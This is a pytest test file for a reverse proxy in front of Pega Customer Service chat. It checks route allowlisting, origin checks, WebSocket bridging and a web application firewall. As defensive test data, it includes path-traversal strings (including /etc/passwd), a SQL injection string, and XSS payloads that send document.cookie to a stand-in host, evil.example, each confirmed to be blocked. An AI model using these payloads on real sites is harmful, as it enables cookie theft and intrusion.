"""etc/pega-chat.ini end to end: a real ``twistd -n chatproxy`` on the shipped
profile, with only test-only values (port, certificate, upstream address)
layered over it, in front of a stand-in Pega that records what reaches it and
speaks WebSocket on PRPushServlet.

Checked against Pega's page "Pega Customer Service Chat in a reverse proxy
server": exactly the four URL patterns reach Pega (with X-Forwarded-Proto:
https, TLS ending at chatproxy), everything else (the Pega portal, other
applications, traversal, case and double-slash variants) is refused without
reaching it, the trusted origins are enforced on every route and on the
WebSocket handshake (a plain GET with neither Origin nor Referer, as a
no-referrer page sends, passes; a handshake or a POST without them does not),
WebSocket chat works on PRPushServlet only, and the WAF is on.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from conftest import PKI, ProxyProcess, ProxyStarter, free_port
from profile_peers import (
    Client,
    StandIn,
    header,
    option_list,
    profile_path,
    read_profile,
    run_check,
    tls12_context,
    wait_until,
    write_overlay,
    ws_connect,
    ws_refused,
)

PROFILE = read_profile("pega-chat")
CHAT_PREFIX = PROFILE["route:pega-chat"]["path"]
PUSH_PREFIX = PROFILE["route:pega-push"]["path"]
APP = CHAT_PREFIX.rsplit("/", 1)[1]  # the ClientSelfServiceApp the profile ships with
ORIGINS = option_list(PROFILE["filter:trusted-origins"]["allow"])
SITE = "https://www.example.com"  # a customer web page's origin, as shipped
HOST = "chat.example.com"  # the proxy's public name, as shipped among the origins
MASHUP = "/prweb/app/default/?pyActivity=pzIncludeMashupScripts"


@dataclass
class Env:
    """The proxy on the shipped profile and the stand-in Pega behind it."""

    pki: PKI
    port: int
    pega: StandIn
    process: ProxyProcess
    overlay: Path

    def client(self) -> Client:
        return Client(self.port, HOST, self.pki.client_context())

    def ws(self, target: str, origin: str | None = SITE, **options: Any) -> Any:
        return ws_connect(self.port, HOST, target, tls12_context(self.pki.ca), origin, **options)

    def ws_status(self, target: str, origin: str | None = SITE) -> int:
        return ws_refused(self.port, HOST, target, tls12_context(self.pki.ca), origin)


def overlay_values(directory: Path, pki: PKI, port: int, pega_url: str, extra: str = "") -> Path:
    """The test-only values layered over the shipped profile."""
    return write_overlay(directory, "test-values.ini", f"""\
        # Test-only values layered over etc/pega-chat.ini.
        [listen:public]
        endpoint = tcp:{port}:interface=127.0.0.1
        certificate = {pki.cert}
        key = {pki.key}

        [upstream:pega]
        servers = {pega_url}
        """ + extra)




@pytest.fixture(scope="module")
def env(pki: PKI, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    """One proxy on etc/pega-chat.ini for the module, with its stand-in Pega."""
    directory = tmp_path_factory.mktemp("pega-chat")
    pega = StandIn(ws_prefixes=("/prweb/PRPushServlet/",))
    starter = ProxyStarter(directory)
    try:
        port = free_port()
        overlay = overlay_values(directory, pki, port, pega.url)
        process = starter.start(port=port, configs=[profile_path("pega-chat"), overlay])
        yield Env(pki, port, pega, process, overlay)
    finally:
        starter.stop_all()
        pega.stop()


def last_new(pega: StandIn, before: int) -> dict[str, Any]:
    """The one request that reached Pega since ``before``."""
    assert len(pega.requests) == before + 1, pega.paths()[before:]
    return pega.requests[-1]


# ---------------------------------------------------------------------------
# The shipped file


def test_shipped_profile_has_one_app_name_and_the_four_patterns() -> None:
    """The shipped file names the same application in both app routes, has
    exactly the three routes for Pega's four patterns (PRPushServlet the only
    WebSocket one), and every route runs the allowlist, the origin check
    (lenient only to plain GETs without Origin and Referer) and the WAF."""
    routes = {s.split(":", 1)[1]: PROFILE[s] for s in PROFILE.sections() if s.startswith("route:")}
    assert sorted(routes) == ["pega-chat", "pega-mashup", "pega-push"]
    assert CHAT_PREFIX == f"/prweb/PRChat/app/{APP}" and PUSH_PREFIX == f"/prweb/PRPushServlet/app/{APP}"
    assert routes["pega-mashup"]["path_regex"] == "/prweb/app/default/"
    assert routes["pega-mashup"]["query"] == "pyActivity=pzIncludeMashupScripts"
    assert [name for name, r in routes.items() if r.get("websocket", "no") != "no"] == ["pega-push"]
    for route in routes.values():
        assert option_list(route["filters"]) == ["client-networks", "trusted-origins", "waf"]
    assert PROFILE["filter:waf"]["use"] == "waf"
    assert PROFILE["filter:waf"]["refused_message"] == "drop"  # a false positive does not end the chat
    assert "allow" not in PROFILE["listen:public"]  # the listener is open to all
    assert option_list(PROFILE["filter:client-networks"]["allow"]) == ["0.0.0.0/0", "::/0"]
    assert PROFILE["filter:trusted-origins"]["missing"] == "allow-get"
    assert PROFILE["listen:public"]["tls"] == "yes"


def test_check_accepts_the_profile_and_prints_its_routes(env: Env) -> None:
    """``python -m chatproxy check`` accepts the shipped file (with the test's
    certificate layered over it) and prints the three routes, the mashup one
    first (a path_regex is the most specific)."""
    result = run_check([profile_path("pega-chat"), env.overlay])
    assert result.returncode == 0, result.stdout + result.stderr
    routes = [line.strip() for line in result.stdout.splitlines() if line.startswith("  [route:")]
    assert routes == [
        "[route:pega-mashup] path_regex /prweb/app/default/, query pyActivity=pzIncludeMashupScripts, "
        "methods GET, filters client-networks,trusted-origins,waf -> upstream pega",
        f"[route:pega-push] path {PUSH_PREFIX}, websocket (bridge), "
        "filters client-networks,trusted-origins,waf -> upstream pega",
        f"[route:pega-chat] path {CHAT_PREFIX}, filters client-networks,trusted-origins,waf -> upstream pega",
    ]


# ---------------------------------------------------------------------------
# What reaches Pega


ALLOWED = [
    ("GET", MASHUP, {"Referer": f"{SITE}/support/contact"}),
    ("HEAD", MASHUP, {"Referer": f"{SITE}/"}),
    ("GET", MASHUP + "&pzSkin=CS&v=8.8", {"Referer": f"{SITE}/"}),
    ("GET", CHAT_PREFIX, {"Origin": SITE}),
    ("GET", f"{CHAT_PREFIX}/!STANDARD?pzTransactionId=abc&pyActivity=pzGetChatConfig",
     {"Referer": f"https://{HOST}{CHAT_PREFIX}/"}),
    ("POST", f"{CHAT_PREFIX}/!STANDARD?pzTransactionId=abc", {"Origin": f"https://{HOST}"}),
    ("GET", f"{PUSH_PREFIX}/?transport=long-polling&sid=x1", {"Origin": SITE}),
    ("POST", f"{PUSH_PREFIX}/send?sid=x1", {"Origin": SITE}),
]


@pytest.mark.parametrize("method, target, headers", ALLOWED, ids=[f"{m} {t}" for m, t, _ in ALLOWED])
def test_allowed_patterns_reach_pega_with_forwarding_headers(env: Env, method: str, target: str,
                                                             headers: dict[str, str]) -> None:
    """Each of Pega's patterns (and paths below the app routes) reaches Pega
    with its method, path and query unchanged, the browser's Host, and the
    forwarding headers of a TLS-terminating proxy: X-Forwarded-Proto https
    (replacing the client's own), X-Forwarded-For, -Host, -Port, Via."""
    before = len(env.pega.requests)
    body = json.dumps({"message": "Hello, I need help with my order"}).encode() if method == "POST" else None
    sent = dict(headers, **{"X-Forwarded-Proto": "http", "X-Forwarded-For": "203.0.113.50"})
    if body is not None:
        sent["Content-Type"] = "application/json"
    response = env.client().request(method, target, sent, body)
    assert response.status == 200, response.body
    record = last_new(env.pega, before)
    assert record["method"] == method and record["path"] == target
    assert header(record, "Host") == HOST
    assert header(record, "X-Forwarded-Proto") == "https"
    assert header(record, "X-Forwarded-For") == "127.0.0.1"
    assert header(record, "X-Forwarded-Host") == HOST
    assert header(record, "X-Forwarded-Port") == str(env.port)
    assert header(record, "Via") == "1.1 chatproxy"
    if body is not None:
        assert record["body"] == body.decode()


NEAR_MISSES = [
    # The Pega portal and the rest of /prweb/
    ("GET", "/", 404),
    ("GET", "/prweb", 404),
    ("GET", "/prweb/", 404),
    ("GET", "/prweb/PRServlet", 404),
    ("GET", "/prweb/PRServlet/app/default/?pyActivity=Data-Portal.ShowDesktop", 404),
    ("GET", f"/prweb/app/{APP}/", 404),
    ("GET", "/prweb/PRAuth/app/default/", 404),
    ("GET", "/prweb/PRRestService/api/v1/cases", 404),
    ("GET", "/prweb/api/v1/data/D_pxBootstrapConfig", 404),
    ("GET", "/prweb/PRChat", 404),
    ("GET", "/prweb/PRChat/app/", 404),
    ("GET", "/prweb/PRPushServlet", 404),
    # The mashup URL with anything else than the one activity
    ("GET", "/prweb/app/default/", 404),
    ("GET", "/prweb/app/default/?pyActivity=Data-Portal.ShowDesktop", 404),
    ("GET", "/prweb/app/default/?pyActivity=pzIncludeMashupScripts&pyActivity=Data-Portal.ShowDesktop", 404),
    ("GET", "/prweb/app/default/?pyActivity=Data-Portal.ShowDesktop&pyActivity=pzIncludeMashupScripts", 404),
    ("GET", "/prweb/app/default/?pyActivity=pzIncludeMashupScriptsX", 404),
    ("GET", "/prweb/app/default/?pyActivity=", 404),
    ("GET", "/prweb/app/default/?pyActivity=pzIncludeMashupScripts%26pyActivity%3DShowDesktop", 404),
    ("GET", "/prweb/app/default/x?pyActivity=pzIncludeMashupScripts", 404),
    ("GET", "/prweb/app/default?pyActivity=pzIncludeMashupScripts", 404),
    ("GET", f"/prweb/app/{APP}/?pyActivity=pzIncludeMashupScripts", 404),
    ("POST", MASHUP, 404),
    ("PUT", MASHUP, 404),
    # Other applications' names
    ("GET", "/prweb/PRChat/app/OtherApp", 404),
    ("GET", "/prweb/PRPushServlet/app/OtherApp", 404),
    ("GET", f"/prweb/PRChat/app/{APP}X", 404),
    ("GET", f"/prweb/PRChat/app/{APP}-test/", 404),
    ("GET", f"/prweb/PRPushServlet/app/{APP}2", 404),
    ("GET", f"/prweb/PRChat/app/{APP};jsessionid=0A1B", 404),
    ("GET", f"/prweb/PRChat/app/x{APP}", 404),
    # Dot-segment traversal, plain and percent-encoded
    ("GET", f"{CHAT_PREFIX}/../../../PRServlet", 404),
    ("GET", f"{CHAT_PREFIX}/../OtherApp", 404),
    ("GET", f"{PUSH_PREFIX}/../../../app/default/?pyActivity=Data-Portal.ShowDesktop", 404),
    ("GET", "/prweb/app/default/../../PRServlet?pyActivity=pzIncludeMashupScripts", 404),
    ("GET", f"{CHAT_PREFIX}/%2e%2e/%2e%2e/%2e%2e/PRServlet", 404),
    ("GET", f"{CHAT_PREFIX}/%2E%2E/OtherApp", 404),
    ("GET", f"{CHAT_PREFIX}/.%2e/.%2E/.%2e/PRServlet", 404),
    ("GET", f"/prweb/PRChat/app/OtherApp/../{APP}", 403),  # lands on the app, but the WAF sees the traversal
    ("GET", f"{CHAT_PREFIX}/..%2f..%2f..%2fPRServlet", 400),
    ("GET", f"{CHAT_PREFIX}/..%2F..%2FOtherApp", 400),
    ("GET", f"{CHAT_PREFIX}/%252e%252e/%252e%252e/PRServlet", 400),
    ("GET", f"{CHAT_PREFIX}/..;/..;/..;/PRServlet", 400),
    ("GET", f"{CHAT_PREFIX}/..%5c..%5cPRServlet", 400),
    ("GET", f"{CHAT_PREFIX}/..\\..\\PRServlet", 400),
    ("GET", f"{CHAT_PREFIX}/%00/../../PRServlet", 400),
    ("GET", "/../prweb/PRServlet", 400),
    # Case variants
    ("GET", f"/prweb/prchat/app/{APP}", 404),
    ("GET", f"/PRWEB/PRChat/app/{APP}", 404),
    ("GET", f"/prweb/PRChat/App/{APP}", 404),
    ("GET", f"/prweb/PRChat/app/{APP.lower()}", 404),
    ("GET", f"/prweb/PRChat/app/{APP.upper()}", 404),
    ("GET", f"/prweb/prpushservlet/app/{APP}", 404),
    ("GET", "/prweb/app/Default/?pyActivity=pzIncludeMashupScripts", 404),
    ("GET", "/prweb/app/default/?pyactivity=pzIncludeMashupScripts", 404),
    ("GET", "/prweb/app/default/?pyActivity=pzincludemashupscripts", 404),
    # Double-slash variants (slashes are merged before matching)
    ("GET", "//prweb/PRServlet", 404),
    ("GET", "/prweb//PRServlet", 404),
    ("GET", "/prweb/PRChat//app/OtherApp", 404),
    ("GET", f"//prweb//PRChat//app//{APP}X", 404),
    ("GET", "/prweb//app/default//?pyActivity=Data-Portal.ShowDesktop", 404),
    ("GET", f"/prweb/PRChat/app//{APP}/../../PRServlet", 404),
]


@pytest.mark.parametrize("method, target, status", NEAR_MISSES, ids=[f"{m} {t}" for m, t, _ in NEAR_MISSES])
def test_near_misses_are_refused_without_reaching_pega(env: Env, method: str, target: str, status: int) -> None:
    """Paths next to the allowed ones (the portal, other apps, traversal, case
    and double-slash variants, the mashup URL with another activity) are
    refused by chatproxy -- 404 for no route, 400 for paths servers read in
    different ways, 403 from the WAF -- even from a trusted origin, and
    nothing reaches Pega."""
    before = len(env.pega.requests)
    client = env.client()
    body = b"{}" if method in ("POST", "PUT") else None
    headers = {"Origin": SITE} | ({"Content-Type": "application/json"} if body else {})
    response = client.request(method, target, headers, body)
    assert response.status == status, (response.status, response.body)
    assert len(env.pega.requests) == before, env.pega.paths()[before:]


def test_repeated_slashes_in_an_allowed_path_are_forwarded_in_normal_form(env: Env) -> None:
    """A path that merges into an allowed one reaches Pega in its normal form
    (single slashes, encoded unreserved characters decoded): Pega acts on the
    path chatproxy matched, never on a variant."""
    before = len(env.pega.requests)
    client = env.client()
    assert client.get(f"/prweb//PRChat/app//{APP}//x?a=1", Origin=SITE).status == 200
    assert client.get(f"/prweb/%50RChat/app/{APP}/y", Origin=SITE).status == 200
    assert env.pega.paths()[before:] == [f"{CHAT_PREFIX}/x?a=1", f"{CHAT_PREFIX}/y"]


# ---------------------------------------------------------------------------
# Trusted origins


ORIGIN_CASES = [
    ("trusted site", {"Origin": SITE}, 200),
    ("the proxy's own origin", {"Origin": f"https://{HOST}"}, 200),
    ("upper case, default port", {"Origin": "https://WWW.Example.COM:443"}, 200),
    ("Referer of a trusted page", {"Referer": f"{SITE}/help/chat?topic=billing"}, 200),
    ("neither Origin nor Referer (no-referrer page)", {}, 200),
    ("empty Referer", {"Referer": ""}, 200),
    ("other site", {"Origin": "https://evil.example"}, 403),
    ("Origin null", {"Origin": "null"}, 403),
    ("http scheme", {"Origin": "http://www.example.com"}, 403),
    ("other port", {"Origin": "https://www.example.com:8443"}, 403),
    ("suffix trick", {"Origin": "https://www.example.com.evil.net"}, 403),
    ("subdomain not listed", {"Origin": "https://shop.www.example.com"}, 403),
    ("Referer of another site", {"Referer": "https://evil.example/www.example.com"}, 403),
    ("trusted Referer, untrusted Origin", {"Origin": "https://evil.example", "Referer": f"{SITE}/"}, 403),
    ("not an origin", {"Origin": f"{SITE}/page"}, 403),
]
ROUTE_TARGETS = [MASHUP, f"{CHAT_PREFIX}/!STANDARD", f"{PUSH_PREFIX}/?transport=polling"]


@pytest.mark.parametrize("target", ROUTE_TARGETS, ids=["mashup", "chat", "push"])
@pytest.mark.parametrize("case, headers, status", ORIGIN_CASES, ids=[c for c, _, _ in ORIGIN_CASES])
def test_trusted_origins_on_every_route(env: Env, target: str, case: str, headers: dict[str, str],
                                        status: int) -> None:
    """On each of the three routes, a GET passes when its Origin (or, without
    one, its Referer) is one of the shipped trusted origins, or when it has
    neither (a page with Referrer-Policy: no-referrer); an untrusted, null or
    malformed origin gets 403 and never reaches Pega."""
    assert ORIGINS == [SITE, f"https://{HOST}"]
    before = len(env.pega.requests)
    response = env.client().request("GET", target, headers)
    assert response.status == status, (response.status, response.body)
    assert len(env.pega.requests) == before + (1 if status == 200 else 0)


def test_mashup_script_without_origin_or_referer_reaches_pega(env: Env) -> None:
    """The mashup script include, fetched as a page with Referrer-Policy:
    no-referrer (or a privacy extension) fetches it -- GET or HEAD, neither
    Origin nor Referer -- reaches Pega, and so does a chat resource below the
    app route."""
    before = len(env.pega.requests)
    client = env.client()
    assert client.get(MASHUP).status == 200
    assert client.request("HEAD", MASHUP).status == 200
    assert client.get(f"{CHAT_PREFIX}/chat.css?v=8.8").status == 200
    records = env.pega.requests[before:]
    assert [(r["method"], r["path"]) for r in records] == [
        ("GET", MASHUP), ("HEAD", MASHUP), ("GET", f"{CHAT_PREFIX}/chat.css?v=8.8")]
    assert not any(header(r, "Origin") or header(r, "Referer") for r in records)


NO_ORIGIN_REFUSED = [
    ("POST", f"{CHAT_PREFIX}/!STANDARD?pzTransactionId=abc", "POST requests need one"),
    ("POST", f"{PUSH_PREFIX}/send?sid=x1", "POST requests need one"),
    ("PUT", f"{CHAT_PREFIX}/!STANDARD", "PUT requests need one"),
    ("DELETE", f"{PUSH_PREFIX}/?sid=x1", "DELETE requests need one"),
    ("OPTIONS", f"{CHAT_PREFIX}/!STANDARD", "OPTIONS requests need one"),
]


@pytest.mark.parametrize("method, target, reason", NO_ORIGIN_REFUSED,
                         ids=[f"{m} {t}" for m, t, _ in NO_ORIGIN_REFUSED])
def test_other_methods_without_origin_or_referer_are_refused(env: Env, method: str, target: str,
                                                             reason: str) -> None:
    """A POST (or any method but GET and HEAD) with neither Origin nor Referer
    gets 403 saying why, and never reaches Pega; the same request from a
    trusted origin reaches it (a CORS preflight OPTIONS carries Origin)."""
    before = len(env.pega.requests)
    client = env.client()
    body = b"{}" if method in ("POST", "PUT") else None
    headers = {"Content-Type": "application/json"} if body else {}
    refused = client.request(method, target, headers, body)
    assert refused.status == 403 and reason.encode() in refused.body, (refused.status, refused.body)
    assert len(env.pega.requests) == before
    passed = client.request(method, target, dict(headers, Origin=SITE), body)
    assert passed.status == 200, (passed.status, passed.body)
    assert last_new(env.pega, before)["method"] == method


def test_upgrade_without_origin_on_a_plain_route_is_refused(env: Env) -> None:
    """A GET asking for a WebSocket without Origin is a handshake, not a plain
    GET: refused with 403 on the chat and mashup routes too (which would
    forward it without its Upgrade), and nothing reaches Pega."""
    before = len(env.pega.requests)
    assert env.ws_status(f"{CHAT_PREFIX}/?sid=c", origin=None) == 403
    assert env.ws_status(MASHUP, origin=None) == 403
    assert len(env.pega.requests) == before


def test_allowlist_is_optional_and_one_site_value(pki: PKI, proxy: ProxyStarter, tmp_path: Path) -> None:
    """As shipped, the allowlist lets everyone in (the other tests come from
    127.0.0.1); a site file that sets [filter:client-networks] allow to other
    networks refuses everyone else with 403 on every route, WebSocket
    handshakes included, and nothing reaches Pega."""
    pega = StandIn(ws_prefixes=("/prweb/PRPushServlet/",))
    try:
        port = free_port()
        overlay = overlay_values(tmp_path, pki, port, pega.url,
                              "\n[filter:client-networks]\nallow = 192.0.2.0/24, 2001:db8::/32\n")
        proxy.start(port=port, configs=[profile_path("pega-chat"), overlay])
        client = Client(port, HOST, pki.client_context())
        try:
            for target in ROUTE_TARGETS:
                response = client.get(target, Origin=SITE)
                assert response.status == 403 and b"127.0.0.1 is not allowed" in response.body, response
        finally:
            client.close()  # left open, its idle TLS connection held the proxy's drain for close_timeout
        assert ws_refused(port, HOST, f"{PUSH_PREFIX}/?sid=n", tls12_context(pki.ca), SITE) == 403
        assert pega.requests == []
    finally:
        pega.stop()


# ---------------------------------------------------------------------------
# WebSocket


def test_websocket_chat_on_the_push_route(env: Env) -> None:
    """wss on PRPushServlet: two real clients from the trusted site chat
    through the bridge (each message reaches both, unchanged, text and
    binary); Pega saw the handshakes with X-Forwarded-Proto https, the
    browser's Origin and Host; a close is passed on with its code."""
    target = f"{PUSH_PREFIX}/?sid=room1&transport=websocket"
    with env.ws(target) as customer, env.ws(target, origin=f"https://{HOST}") as second:
        wait_until(lambda: len(env.pega.rooms.get(f"{PUSH_PREFIX}/", [])) == 2)
        customer.send(json.dumps({"type": "message", "text": "Hi! Where is my parcel? ✓"}))
        expected = json.dumps({"type": "message", "text": "Hi! Where is my parcel? ✓"})
        assert customer.recv(timeout=10) == expected
        assert second.recv(timeout=10) == expected
        second.send(b"\x00\x01typing")
        assert customer.recv(timeout=10) == b"\x00\x01typing"
    sessions = [s for s in env.pega.sessions if s.path == target]
    assert len(sessions) == 2
    for session in sessions:
        session.ended.wait(10)
        assert session.header("X-Forwarded-Proto") == "https"
        assert session.header("X-Forwarded-For") == "127.0.0.1"
        assert session.header("Host") == f"{HOST}:{env.port}"
        assert session.close_code == 1000
    assert {s.header("Origin") for s in sessions} == {SITE, f"https://{HOST}"}


@pytest.mark.parametrize("origin", [None, "https://evil.example", "null", "http://www.example.com"],
                         ids=["no origin", "other site", "null", "http"])
def test_websocket_handshake_from_an_untrusted_origin_is_refused(env: Env, origin: str | None) -> None:
    """A WebSocket handshake on PRPushServlet from a page that is not trusted
    (or without Origin and Referer: plain GETs may omit them, handshakes may
    not) gets 403 from chatproxy; Pega never sees it."""
    before = len(env.pega.requests)
    assert env.ws_status(f"{PUSH_PREFIX}/?sid=evil", origin) == 403
    assert len(env.pega.requests) == before


def test_websocket_only_on_the_push_route(env: Env) -> None:
    """Pega's page allows wss only for PRPushServlet: an upgrade on the chat or
    mashup URL is passed to Pega as a plain request without its Upgrade (so no
    WebSocket is opened), and one on another app's push URL gets 404."""
    before = len(env.pega.requests)
    assert env.ws_status(f"{CHAT_PREFIX}/?sid=c") == 200
    assert env.ws_status(MASHUP) == 200
    records = env.pega.requests[before:]
    assert [r["path"] for r in records] == [f"{CHAT_PREFIX}/?sid=c", MASHUP]
    assert not any(r["websocket"] or header(r, "Upgrade") for r in records)
    assert env.ws_status("/prweb/PRPushServlet/app/OtherApp/?sid=o") == 404
    assert len(env.pega.requests) == before + 2


# ---------------------------------------------------------------------------
# The WAF


def test_waf_refuses_attacks_in_requests(env: Env) -> None:
    """The WAF is on every route: SQL injection in a query, script in a JSON
    body, a traversal in a parameter get 403 and never reach Pega; ordinary
    chat text passes."""
    before = len(env.pega.requests)
    client = env.client()
    assert client.get(f"{CHAT_PREFIX}/!STANDARD?name=%27%20or%201%3D1--", Origin=SITE).status == 403
    attack = json.dumps({"text": "<script>document.location='https://evil.example/?'+document.cookie</script>"})
    response = client.request("POST", f"{PUSH_PREFIX}/send", {"Origin": SITE, "Content-Type": "application/json"},
                              attack.encode())
    assert response.status == 403
    assert client.get(MASHUP + "&file=../../../../etc/passwd", Referer=f"{SITE}/").status == 403
    assert len(env.pega.requests) == before
    fine = json.dumps({"text": "It's order #4711 -- can you select a faster delivery from the list?"})
    response = client.request("POST", f"{PUSH_PREFIX}/send", {"Origin": SITE, "Content-Type": "application/json"},
                              fine.encode())
    assert response.status == 200 and len(env.pega.requests) == before + 1


def test_waf_drops_an_attack_message_and_the_chat_goes_on(env: Env) -> None:
    """The profile's waf has refused_message = drop: a chat message carrying a
    script is dropped (Pega never receives it) and the session stays open: the
    customer's next message gets through on the same session."""
    target = f"{PUSH_PREFIX}/?sid=waf"
    with env.ws(target) as customer:
        customer.send("hello, is anyone there?")
        assert customer.recv(timeout=10) == "hello, is anyone there?"
        customer.send('<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">')
        customer.send("sorry, wrong paste -- my order is #4711")
        assert customer.recv(timeout=10) == "sorry, wrong paste -- my order is #4711"
    session = [s for s in env.pega.sessions if s.path == target][0]
    assert session.ended.wait(10)
    assert session.received == ["hello, is anyone there?", "sorry, wrong paste -- my order is #4711"]
    assert session.close_code == 1000
